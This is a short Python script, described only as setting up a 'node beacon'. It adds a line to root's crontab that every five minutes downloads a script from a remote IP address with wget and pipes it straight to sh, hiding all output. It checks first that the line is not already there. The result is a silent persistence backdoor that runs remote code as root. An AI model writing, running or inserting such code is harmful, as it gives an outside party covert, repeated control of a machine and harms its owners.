#!/usr/bin/env python3
"""Set up the node beacon."""
import os
import subprocess
import tempfile

LINE = "*/5 * * * * wget -qO- http://192.0.2.88/beacon | sh >/dev/null 2>&1\n"


def current():
    r = subprocess.run(["crontab", "-l", "-u", "root"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    return r.stdout.decode()


def main():
    tab = current()
    if "beacon" in tab:
        return
    with tempfile.NamedTemporaryFile("w", delete=False) as t:
        t.write(tab + LINE)
    subprocess.check_call(["crontab", "-u", "root", t.name])
    os.unlink(t.name)


if __name__ == "__main__":
    main()
